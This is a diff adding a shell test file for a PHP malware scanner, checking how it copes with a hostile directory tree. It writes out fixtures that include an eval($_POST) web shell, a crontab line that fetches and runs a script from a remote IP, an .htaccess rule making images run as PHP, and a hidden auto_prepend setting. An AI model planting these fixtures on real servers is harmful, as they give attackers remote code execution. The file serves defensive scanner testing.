@@ -1,0 +1,111 @@
+# hostile.sh - a home that fights back; sourced by run. Whatever lies in it: the scan ends, says what it left out, and the one
+# bad file in it is found.
+home=$tmp/home
+mkdir -p "$home/sub" "$tmp/outside"
+echo '<?php eval($_POST["a"]);' >"$home/sub/bad.php"
+echo '<?php eval($_POST["a"]);' >"$tmp/outside/bad.php"
+cp -R test/scan/cases/clean_numbers.php "$home/fine.php"
+
+scan() { "$SPAMTRAIL" scan "$@"; }
+has() { echo "$out" | grep -q -- "$1"; }
+
+out=$(scan --plain "$home"); rc=$?
+ok $((rc != 1)) "a finding is exit code 1"
+out=$(scan --plain "$home/fine.php"); rc=$?
+ok $rc "nothing found is exit code 0"
+scan "$home/none" >/dev/null 2>&1; ok $(($? != 66)) "a path that is not there is exit code 66"
+scan >/dev/null 2>&1; ok $(($? != 64)) "no path is exit code 64"
+
+mkfifo "$home/pipe" "$home/pipe.php"
+ln -s ../outside "$home/out"
+ln -s "$tmp/outside/bad.php" "$home/link.php"
+ln -s . "$home/self"
+ln "$home/fine.php" "$home/hard.php"
+out=$(timeout 20 "$SPAMTRAIL" scan --plain "$home"); rc=$?
+ok $((rc != 1)) "FIFOs and links: exit code 1, as they hold nothing to read"
+has "^skipped$tab.*/pipe.php${tab}a FIFO"; ok $? "a FIFO is told, not opened"
+has "^skipped$tab.*/out${tab}a link"; ok $? "a link out of the home is told, not followed"
+has outside/bad.php; ok $((!$?)) "nothing outside of the home is read"
+
+esc=$(printf 'e\033[31m\nx.php')
+cp "$home/sub/bad.php" "$home/$esc"
+cp "$home/sub/bad.php" "$home/$(printf 'b\377\376.php')"
+cp "$home/sub/bad.php" "$home/-rf.php"
+out=$(scan --plain "$home")
+[ "$(echo "$out" | grep -c '^finding')" = 4 ]; ok $? "names with newline, escape, bytes that are no UTF-8, a leading dash: one line each"
+echo "$out" | LC_ALL=C grep -q "$(printf '[\001-\010\013-\037\177\377]')"; ok $((!$?)) "no control byte reaches the terminal"
+scan --json "$home" >"$tmp/json"
+grep -q '"path_b64"' "$tmp/json"; ok $? "a path that is no UTF-8 comes as path_b64, too"
+if command -v python3 >/dev/null; then
+	python3 -c 'import json,sys; d=json.load(open(sys.argv[1])); assert d["schema"]=="spamtrail.scan/1" and len(d["findings"])==4' "$tmp/json"
+	ok $? "the JSON parses"
+fi
+rm -f "$home"/e* "$home"/b* "$home/-rf.php"
+
+truncate -s 8T "$home/sparse.php" 2>/dev/null || truncate -s 1G "$home/sparse.php"
+out=$(timeout 20 "$SPAMTRAIL" scan --plain "$home"); rc=$?
+ok $((rc != 3)) "a sparse giant ends in time and makes it incomplete"
+has "^skipped$tab.*/sparse.php${tab}larger than the limit"; ok $? "and is told"
+rm "$home/sparse.php"
+
+# two nests of 600, one hung into the other
+nest() { (cd "$1" && for i in $(seq 1 600); do mkdir dddd && cd dddd || exit 1; done; [ -z "${2:-}" ] || mv "$2" .; cp "$home/sub/bad.php" .); }
+mkdir "$tmp/lower" && nest "$tmp/lower" && nest "$home" "$tmp/lower"
+out=$(timeout 60 "$SPAMTRAIL" scan --plain "$home"); rc=$?
+ok $((rc != 3)) "folders in one another, deeper than a path is long: it ends, incomplete"
+has "too long to be opened"; ok $? "and what is too deep is told"
+has "sub/bad.php"; ok $? "and the rest is read"
+rm -rf "$home/dddd"
+
+mkdir "$home/many"
+(cd "$home/many" && seq -f "f%.0f.txt" 1 5000 | xargs touch)
+out=$(timeout 60 "$SPAMTRAIL" scan --plain "$home")
+[ "$(echo "$out" | sed -n "s/^total$tab\([0-9]*\).*/\1/p")" -ge 5003 ]; ok $? "5,000 names in one folder are all read"
+rm -rf "$home/many"
+
+# a bomb: text in a thousand layers, and one that unpacks a thousand to one
+{
+	printf '<?php return; $x = "%s"; ' "$(head -c 30000 /dev/zero | tr '\0' a)"
+	i=0; while [ $i -lt 400 ]; do printf 'eval(str_repeat($x, 500) . base64_decode($x));'; i=$((i + 1)); done
+} >"$home/bomb.php"
+{
+	printf '<?php return; $f = function($n) use (&$f) { return $f($n + 1) . $f($n + 2); }; eval($f($_GET["x"]));'
+	printf 'while (true) { $a .= str_repeat("x", 1000); } for (;;) { $b[] = $a; $c = $c . $c . "yy"; }'
+} >"$home/loop.php"
+{ printf '<?php return; eval('; head -c 200000 /dev/zero | tr '\0' '('; printf '$_POST[1]);'; } >"$home/deep.php"
+{ printf '<?php return; '; i=0; while [ $i -lt 3000 ]; do printf 'if ($a) { foreach ($b as $c) { '; i=$((i + 1)); done; printf 'eval($_POST[1]);'; } >"$home/nest.php"
+for f in bomb loop deep nest; do
+	began=$(date +%s)
+	out=$(timeout 10 "$SPAMTRAIL" scan --plain "$home/$f.php"); rc=$?
+	[ $rc -le 3 ] && [ $(($(date +%s) - began)) -le 3 ]; ok $? "$f.php ends within its budget"
+done
+rm -f "$home"/bomb.php "$home"/loop.php "$home"/deep.php "$home"/nest.php
+
+one=$(SPAMTRAIL_TEST_WORKERS=1 "$SPAMTRAIL" scan --plain test/scan/cases)
+many=$(SPAMTRAIL_TEST_WORKERS=7 "$SPAMTRAIL" scan --plain test/scan/cases)
+[ "$one" = "$many" ]; ok $? "one worker and seven say the same"
+
+echo 'AddHandler application/x-httpd-php .jpg' >"$home/.htaccess"
+echo 'auto_prepend_file = "/tmp/.x.jpg"' >"$home/.user.ini"
+printf '# m h\n*/5 * * * * wget -qO- http://203.0.113.9/x | sh\n' >"$home/crontab"
+out=$(scan --plain "$home")
+for r in config.handler config.prepend.hidden config.cron.fetch; do has "$tab$r$tab"; ok $? "settings: $r"; done
+printf 'Options -Indexes\nRewriteEngine On\nRewriteRule ^x$ index.php [L]\nAddType image/webp .webp\n' >"$home/.htaccess"
+printf 'memory_limit = 256M\n' >"$home/.user.ini"
+rm "$home/crontab" "$home/sub/bad.php"
+out=$(scan --plain "$home"); rc=$?
+ok $rc "ordinary settings are no finding"
+
+touch -d '10 days ago' "$home/fine.php"
+out=$(scan --plain --since '1 hour ago' "$home")
+has "^total${tab}[1-9]"; ok $? "--since counts what the owner cannot set: ctime"
+
+if [ "$(id -u)" = 0 ]; then
+	mkdir "$home/closed"; cp test/scan/cases/code_direct.php "$home/closed/"; chown -R 12345:12345 "$home"; chmod 755 "$tmp"
+	chown 0:0 "$home/closed"; chmod 700 "$home/closed"
+	out=$(scan --plain "$home"); rc=$?
+	ok $((rc != 3)) "as root: what the folder's owner may not read is not read"
+	has "^skipped$tab.*/closed${tab}may not be read by its account"; ok $? "and told"
+else
+	tests=$((tests + 1)); echo "ok $tests - the folder's owner # SKIP needs root"
+fi
